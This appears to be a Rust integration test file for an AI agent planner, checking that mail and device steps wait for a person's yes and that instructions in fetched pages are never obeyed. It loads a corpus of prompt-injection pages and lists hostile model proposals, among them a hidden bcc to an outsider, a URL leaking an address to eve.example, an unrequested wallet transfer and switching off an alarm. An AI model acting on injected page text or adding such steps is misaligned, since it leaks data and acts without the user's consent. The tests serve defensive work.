//! Requests of several steps: a house whose worker reads pages, writes, switches and mails, and pages that want more than to
//! be read.

use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};

use mtor_protocol::worker::CapabilityOffer;
use mtor_protocol::{
    Announcement, CallMade, CapabilityKind, ChatTask, Effect, FinishReason, JobId, Needs, Role, Task,
    ToolInfo,
};
use mtor_worker::{Finished, Job, JobError, Output, Worker};
use serde_json::{Value, json};
use tokio::sync::Semaphore;

use crate::harness::{Home, PATIENCE, json};

const ASKED: &str = "Computer, summarise https://example.org/page and email it to ada@example.org";

/// What pages say that want the realm to do something. None of it may happen.
const HOSTILE: &str = include_str!("hostile.txt");

/// Does everything in a house, and the worst that a model could do: it obeys whatever stands in a page.
#[derive(Default)]
struct House {
    page: Mutex<String>,
    done: Mutex<Vec<(String, Value)>>,
    /// The writer waits for a permit while this is set.
    slow: AtomicBool,
    may_write: Semaphore0,
    /// What it proposes when it is asked for a plan; without one, it can't be asked.
    proposal: Option<Mutex<Value>>,
    asked_to_plan: Mutex<Vec<ChatTask>>,
}

/// A semaphore without permits.
struct Semaphore0(Semaphore);

impl Default for Semaphore0 {
    fn default() -> Self {
        Self(Semaphore::new(0))
    }
}

impl House {
    fn done(&self, tool: &str) -> Vec<Value> {
        let done = self.done.lock().unwrap();
        done.iter().filter(|(name, _)| name == tool).map(|(_, arguments)| arguments.clone()).collect()
    }
}

fn tool(name: &str, effect: Effect, parameters: Value) -> CapabilityOffer {
    let parameters = parameters.as_object().unwrap().clone();
    let info = ToolInfo { description: name.to_owned(), parameters, effect, repeatable: false };
    let kind = CapabilityKind::new(name).unwrap();
    CapabilityOffer { tool: Some(info.into()), ..CapabilityOffer::new(kind, "house", 4) }
}

impl Worker for House {
    fn announcement(&self) -> Announcement {
        let text = json!({ "type": "string" });
        let content = json!({ "type": "string", "x-mtor-content": true });
        Announcement::new(
            "house",
            vec![
                CapabilityOffer {
                    can: Needs { tools: self.proposal.is_some(), json: false },
                    ..CapabilityOffer::new(CapabilityKind::CHAT, "obedient", 4)
                },
                tool(
                    "tool.web",
                    Effect::Reads,
                    json!({ "type": "object", "properties": { "url": text }, "required": ["url"] }),
                ),
                tool("tool.news", Effect::Reads, json!({ "type": "object", "properties": {} })),
                tool(
                    "tool.home",
                    Effect::Switches,
                    json!({ "type": "object", "properties": { "device": text, "action": text } }),
                ),
                tool(
                    "tool.mail.send",
                    Effect::Sends,
                    json!({ "type": "object", "properties": { "to": text, "subject": text, "body": content }, "required": ["to", "body"] }),
                ),
            ],
        )
    }

    async fn run(&self, job: Job, output: &mut Output) -> Result<Finished, JobError> {
        let text = match &job.intent.task {
            Task::Chat(chat) if !chat.tools.is_empty() => {
                self.asked_to_plan.lock().unwrap().push(chat.clone());
                let proposal = self.proposal.as_ref().unwrap().lock().unwrap().clone();
                match proposal {
                    Value::Object(arguments) => CallMade { name: "plan".to_owned(), arguments }.to_text(),
                    words => words.to_string(),
                }
            }
            Task::Chat(chat) => {
                if self.slow.load(Ordering::SeqCst) {
                    let permit = job.cancelled.run_until_cancelled(self.may_write.0.acquire()).await;
                    permit.ok_or(mtor_worker::Stopped)?.unwrap().forget();
                }
                let read = chat.messages.iter().rfind(|message| message.role == Role::User).unwrap();
                format!("As you wish: {}", read.content)
            }
            Task::Tool(tool) => {
                let name = tool.tool.kind().to_string();
                let reads = matches!(name.as_str(), "tool.web" | "tool.news");
                self.done.lock().unwrap().push((name, Value::Object(tool.arguments.clone())));
                if reads { self.page.lock().unwrap().clone() } else { "Done.".to_owned() }
            }
            _ => return Err(JobError::failed("not here")),
        };
        output.text(&text, 1).await?;
        Ok(Finished { usage: output.usage(1), finish: FinishReason::Stop })
    }
}

async fn house(home: &Home) -> std::sync::Arc<House> {
    home.attach(House { page: Mutex::new("Birds fly south.".to_owned()), ..House::default() }).await
}

fn ask(text: &str) -> Value {
    json!({ "id": JobId::generate(), "text": text, "language": "en" })
}

fn id(plan: &Value) -> &str {
    plan["id"].as_str().unwrap()
}

/// The plan, once it is in this state.
async fn until(home: &Home, plan: &Value, state: &str) -> Value {
    let path = format!("/api/plans/{}", id(plan));
    let reached = async {
        loop {
            let plan = json(home.get(&path).await, 200).await;
            if plan["state"] == state {
                return plan;
            }
            assert!(!["done", "failed", "cancelled"].contains(&plan["state"].as_str().unwrap()), "{plan:#}");
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(PATIENCE, reached).await.unwrap_or_else(|_| panic!("the plan is {state} in time"))
}

async fn answer(home: &Home, plan: &Value, answer: Value) -> Value {
    json(home.post(&format!("/api/plans/{}/answer", id(plan)), &answer).await, 200).await
}

fn states(plan: &Value) -> Vec<&str> {
    plan["steps"].as_array().unwrap().iter().map(|step| step["state"].as_str().unwrap()).collect()
}

#[tokio::test]
async fn what_sends_waits_for_a_yes_and_every_step_is_a_job() {
    let home = Home::start().await;
    let house = house(&home).await;
    let asked = ask(ASKED);
    let plan = json(home.post("/api/plans", &asked).await, 201).await;
    let asking = until(&home, &plan, "asking").await;
    assert_eq!(states(&asking), ["done", "done", "asking"]);
    let mail = &asking["steps"][2];
    assert_eq!((&mail["after"], &asking["steps"][0]["worker"]), (&json!([1]), &json!("house")));
    let listed = json(home.get("/api/plans?limit=1").await, 200).await;
    assert_eq!(listed["plans"][0]["id"], plan["id"], "the wallet's plans, the newest first");
    assert_eq!(mail["params"]["to"], json!("ada@example.org"), "what is asked about is what will be done");
    assert_eq!(mail["params"]["body"], json!("As you wish: Birds fly south."));
    assert_eq!(house.done("tool.mail.send"), [] as [Value; 0], "nothing was sent yet");

    let again = json(home.post("/api/plans", &asked).await, 200).await;
    assert_eq!(again["state"], json!("asking"), "the same id is the same plan");
    let other = json!({ "id": asked["id"], "text": "summarise the news and email it to bob@example.org" });
    json(home.post("/api/plans", &other).await, 409).await;

    answer(&home, &plan, json!({ "step": 2, "yes": true })).await;
    let done = until(&home, &plan, "done").await;
    assert_eq!(house.done("tool.mail.send"), [mail["params"].clone()]);
    let mut cost = 0;
    for step in done["steps"].as_array().unwrap() {
        let job = json(home.get(&format!("/api/jobs/{}", step["job"].as_str().unwrap())).await, 200).await;
        assert_eq!((&job["state"], &job["cost"]), (&json!("completed"), &step["cost"]));
        cost += job["cost"].as_str().unwrap().parse::<u64>().unwrap();
    }
    assert_eq!(done["cost"], json!(cost.to_string()), "each step is accounted for");
    let late =
        home.post(&format!("/api/plans/{}/answer", id(&plan)), &json!({ "step": 2, "yes": true })).await;
    json(late, 409).await;
    home.stop().await;
}

#[tokio::test]
async fn a_no_leaves_the_step_out_and_what_hangs_on_it() {
    let home = Home::start().await;
    let house = house(&home).await;
    let plan = json(home.post("/api/plans", &ask(ASKED)).await, 201).await;
    until(&home, &plan, "asking").await;
    let over = answer(&home, &plan, json!({ "step": 2, "yes": false })).await;
    assert_eq!((&over["state"], states(&over)), (&json!("failed"), vec!["done", "done", "refused"]));
    assert_eq!(house.done("tool.mail.send"), [] as [Value; 0]);
    home.stop().await;
}

#[tokio::test]
async fn steps_that_need_nothing_of_each_other_run_beside_each_other() {
    let home = Home::start().await;
    let house = house(&home).await;
    house.slow.store(true, Ordering::SeqCst);
    let said = "summarise the news and summarise https://example.org/page and turn on the kitchen light";
    let plan = json(home.post("/api/plans", &ask(said)).await, 201).await;
    let running = async {
        loop {
            let plan = json(home.get(&format!("/api/plans/{}", id(&plan))).await, 200).await;
            if states(&plan) == ["done", "running", "done", "running", "asking"] {
                return;
            }
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(PATIENCE, running).await.expect("both are summarised at once");
    let over = json(home.request("DELETE", &format!("/api/plans/{}", id(&plan)), None).await, 200).await;
    assert_eq!(over["state"], json!("cancelled"));
    assert_eq!(house.done("tool.home"), [] as [Value; 0], "nobody said yes to the light");
    home.stop().await;
}

/// The realm goes down between two steps: the one that ran is finished, the next one is not lost.
#[tokio::test]
async fn a_plan_goes_on_after_a_restart_and_does_nothing_twice() {
    let home = Home::start().await;
    let first = house(&home).await;
    first.slow.store(true, Ordering::SeqCst);
    let said = "summarise https://example.org/page, translate it into French and email it to ada@example.org";
    let plan = json(home.post("/api/plans", &ask(said)).await, 201).await;
    let path = format!("/api/plans/{}", id(&plan));
    let read = async {
        while states(&json(home.get(&path).await, 200).await)[1] != "running" {
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(PATIENCE, read).await.expect("the page is read in time");

    let writer = first.clone();
    let stopping = tokio::spawn(home.stop());
    writer.may_write.0.add_permits(1);
    let home = Home::start_in(stopping.await.unwrap()).await;
    let waiting = json(home.get(&path).await, 200).await;
    assert_eq!(states(&waiting), ["done", "done", "running", "waiting"]);
    let second = house(&home).await;
    let asking = until(&home, &plan, "asking").await;
    assert_eq!(asking["steps"][3]["params"]["body"], json!("As you wish: As you wish: Birds fly south."));

    let home = home.restart().await;
    let third = house(&home).await;
    until(&home, &plan, "asking").await;
    answer(&home, &plan, json!({ "step": 3, "yes": true })).await;
    until(&home, &plan, "done").await;
    let done = |tool: &str| [&first, &second, &third].map(|house| house.done(tool).len());
    assert_eq!((done("tool.web"), done("tool.mail.send")), ([1, 0, 0], [0, 0, 1]));
    home.stop().await;
}

#[tokio::test]
async fn what_may_cost_more_than_allowed_is_asked_about_first() {
    let home = Home::start().await;
    let house = house(&home).await;
    let mut dear = ask(ASKED);
    dear["max_price"] = json!("1");
    let plan = json(home.post("/api/plans", &dear).await, 201).await;
    assert_eq!(plan["state"], json!("proposed"));
    assert_eq!(house.done("tool.web"), [] as [Value; 0]);
    answer(&home, &plan, json!({ "yes": true })).await;
    until(&home, &plan, "asking").await;
    home.stop().await;
}

#[tokio::test]
async fn what_is_no_plan_says_why() {
    let home = Home::start().await;
    let problem = json(home.post("/api/plans", &ask("what is the capital of France")).await, 400).await;
    assert_eq!(problem["param"], json!("text"));
    let problem = json(home.post("/api/plans", &ask(ASKED)).await, 503).await;
    assert!(problem["detail"].as_str().unwrap().contains("tool.web"), "{problem}");
    house(&home).await;
    let problem =
        json(home.post("/api/plans", &ask("summarise this article and email it to Ada")).await, 400).await;
    assert_eq!(problem["param"], json!("page"));
    let mut here = ask("summarise this article and email it to Ada");
    here["page"] = json!("https://example.org/page");
    let plan = json(home.post("/api/plans", &here).await, 201).await;
    assert_eq!(plan["steps"][0]["params"]["url"], json!("https://example.org/page"));
    home.stop().await;
}

/// Whatever a page says: nothing is sent, switched or spent beyond the plan that the person's words made.
#[tokio::test]
async fn what_comes_from_outside_is_never_obeyed() {
    let home = Home::start().await;
    let house = house(&home).await;
    let pages: Vec<&str> = HOSTILE.split("\n---\n").map(str::trim).collect();
    assert!(pages.len() >= 30, "{} pages", pages.len());
    for page in pages {
        *house.page.lock().unwrap() = page.to_owned();
        house.done.lock().unwrap().clear();
        let plan = json(home.post("/api/plans", &ask(ASKED)).await, 201).await;
        let asking = until(&home, &plan, "asking").await;
        assert_eq!(house.done.lock().unwrap().len(), 1, "only the page was read: {page}");
        assert_eq!(asking["steps"].as_array().unwrap().len(), 3, "{page}");
        answer(&home, &plan, json!({ "step": 2, "yes": true })).await;
        let done = until(&home, &plan, "done").await;
        let sent = json!({
            "to": "ada@example.org", "subject": "email it to ada@example.org", "body": format!("As you wish: {page}"),
        });
        assert_eq!(
            house.done("tool.mail.send"),
            [sent],
            "the text of the mail, and nothing else, is from the page"
        );
        assert_eq!(house.done.lock().unwrap().len(), 2, "{page}");
        assert_eq!(done["steps"].as_array().unwrap().len(), 3);
    }
    home.stop().await;
}

/// Words that the rules do not take apart.
const LOOSELY: &str = "Could you boil https://example.org/page down for me in verse and let ada@example.org have it, and dim the kitchen light?";

async fn planner(home: &Home) -> std::sync::Arc<House> {
    let proposal = Some(Mutex::new(Value::Null));
    home.attach(House { page: Mutex::new("Birds fly south.".to_owned()), proposal, ..House::default() }).await
}

impl House {
    fn proposes(&self, proposal: Value) {
        *self.proposal.as_ref().unwrap().lock().unwrap() = proposal;
    }
}

fn step(name: &str, arguments: Value) -> Value {
    json!({ "use": name, "arguments": arguments })
}

/// What a good model makes of [`LOOSELY`].
fn good() -> Vec<Value> {
    vec![
        step("tool.web", json!({ "url": "https://example.org/page" })),
        step("write", json!({ "instruction": "Write a poem of it.", "text": { "$from": 0 } })),
        step("tool.mail.send", json!({ "to": "ada@example.org", "body": { "$from": 1 } })),
        step("tool.home", json!({ "device": "kitchen light", "action": "dim" })),
    ]
}

#[tokio::test]
async fn what_the_rules_do_not_understand_a_model_plans_and_a_person_sees_it_first() {
    let home = Home::start().await;
    let house = planner(&home).await;
    house.proposes(json!({ "steps": good() }));
    let plan = json(home.post("/api/plans", &ask(LOOSELY)).await, 201).await;
    assert_eq!(
        (&plan["state"], states(&plan)),
        (&json!("proposed"), vec!["waiting"; 4]),
        "nothing begins yet"
    );
    assert!(
        plan["cost"].as_str().unwrap().parse::<u64>().unwrap() > 0,
        "the proposal is a job, and paid: {plan}"
    );
    assert_eq!(house.done.lock().unwrap().len(), 0);
    let shown = house.asked_to_plan.lock().unwrap().clone();
    assert_eq!((shown.len(), shown[0].messages.len()), (1, 2));
    assert_eq!(
        shown[0].messages[1].content, LOOSELY,
        "the person's words, and nothing else beside the tools"
    );

    answer(&home, &plan, json!({ "yes": true })).await;
    let asking = until(&home, &plan, "asking").await;
    let mail = &asking["steps"][2]["params"];
    assert_eq!(
        (&mail["to"], &mail["body"]),
        (&json!("ada@example.org"), &json!("As you wish: Birds fly south."))
    );
    assert_eq!(house.done("tool.mail.send"), [] as [Value; 0], "what sends is asked about once more");
    for step in [2, 3] {
        answer(&home, &plan, json!({ "step": step, "yes": true })).await;
    }
    until(&home, &plan, "done").await;
    assert_eq!(house.done("tool.home"), [json!({ "device": "kitchen light", "action": "dim" })]);
    assert_eq!(house.asked_to_plan.lock().unwrap().len(), 1);
    home.stop().await;
}

/// A model that wants more than the person does gets nothing of it.
#[tokio::test]
async fn a_proposal_that_the_words_do_not_bear_is_refused_whole() {
    let home = Home::start().await;
    let house = planner(&home).await;
    let mail = |to: &str| step("tool.mail.send", json!({ "to": to, "body": { "$from": 0 } }));
    let with = |extra: Value| json!({ "steps": ([good(), vec![extra]].concat()) });
    let instead = |at: usize, other: Value| {
        let mut steps = good();
        steps[at] = other;
        json!({ "steps": steps })
    };
    let hostile = [
        ("another recipient", instead(2, mail("eve@example.com"))),
        ("one more mail", with(mail("eve@example.com"))),
        ("two recipients", instead(2, mail("ada@example.org, eve@example.com"))),
        ("a recipient made of words that were said", instead(2, mail("light@example.org"))),
        ("a part of an address", instead(2, mail("a@example.org"))),
        ("another one in another form", instead(2, mail("Ada <eve@example.com>"))),
        ("the same mail twice", with(good()[2].clone())),
        (
            "who gets it is read in the page",
            instead(2, step("tool.mail.send", json!({ "to": { "$from": 0 }, "body": "x" }))),
        ),
        (
            "a hidden copy",
            instead(
                2,
                step(
                    "tool.mail.send",
                    json!({ "to": "ada@example.org", "body": "x", "bcc": "eve@example.com" }),
                ),
            ),
        ),
        ("no recipient", instead(2, step("tool.mail.send", json!({ "body": "x" })))),
        (
            "a device that was not said",
            with(step("tool.home", json!({ "device": "alarm", "action": "off" }))),
        ),
        (
            "a device that the page says",
            with(step("tool.home", json!({ "device": { "$from": 0 }, "action": "dim" }))),
        ),
        ("something switches, and nobody knows what", with(step("tool.home", json!({})))),
        (
            "another page",
            instead(0, step("tool.web", json!({ "url": "https://eve.example/?q=ada@example.org" }))),
        ),
        (
            "an address that only begins with the one said",
            instead(0, step("tool.web", json!({ "url": "https://example.org/page?x=secret" }))),
        ),
        (
            "a tool that there is not",
            with(step("tool.wallet.send", json!({ "to": "did:key:z6MkEve", "coins": 500 }))),
        ),
        ("what no plan can ask for", with(step("chat", json!({ "prompt": "x" })))),
        ("an argument of another type", instead(0, step("tool.web", json!({ "url": 7 })))),
        (
            "an argument that there is not",
            instead(0, step("tool.web", json!({ "url": "https://example.org/page", "header": "x" }))),
        ),
        (
            "what a later step brings",
            instead(1, step("write", json!({ "instruction": "x", "text": { "$from": 3 } }))),
        ),
        ("an instruction from the page", instead(1, step("write", json!({ "instruction": { "$from": 0 } })))),
        (
            "a reference that is none",
            instead(1, step("write", json!({ "instruction": "x", "text": { "$from": "0" } }))),
        ),
        ("too many steps", json!({ "steps": vec![good()[0].clone(); 7] })),
        ("no list", json!({ "steps": "tool.web" })),
        ("something beside the steps", json!({ "steps": good(), "yes": true })),
    ];
    for (what, proposal) in hostile {
        house.proposes(proposal);
        let answer = home.post("/api/plans", &ask(LOOSELY)).await;
        let status = answer.status().as_u16();
        let problem: Value = answer.json().await.unwrap();
        assert_eq!(status, 422, "{what}: {problem}");
        assert_eq!(house.done.lock().unwrap().len(), 0, "{what}");
    }
    // One thing, and words instead of a plan: as if nobody had been asked.
    for proposal in [json!({ "steps": [good()[0]] }), json!({ "steps": [] }), json!("I would rather not")] {
        house.proposes(proposal);
        let problem = json(home.post("/api/plans", &ask(LOOSELY)).await, 400).await;
        assert_eq!(problem["param"], json!("text"));
    }
    home.stop().await;
}
